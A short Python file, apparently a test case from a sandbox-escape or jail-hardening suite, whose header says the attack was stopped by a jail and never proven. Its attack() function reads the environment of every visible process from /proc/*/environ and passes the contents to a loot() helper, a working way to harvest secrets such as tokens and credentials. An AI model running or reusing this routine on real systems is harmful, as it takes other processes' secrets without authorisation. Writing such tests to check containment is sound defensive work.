# /// attack
# title = "Reads the environments of all processes that it can see"
# stopped_at = "jailed"
# proven = "never"
# ///
import glob

from loot import loot


def attack(*arguments, **keywords):
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                found.append(file.read())
        except OSError:
            continue
    return loot(*found)
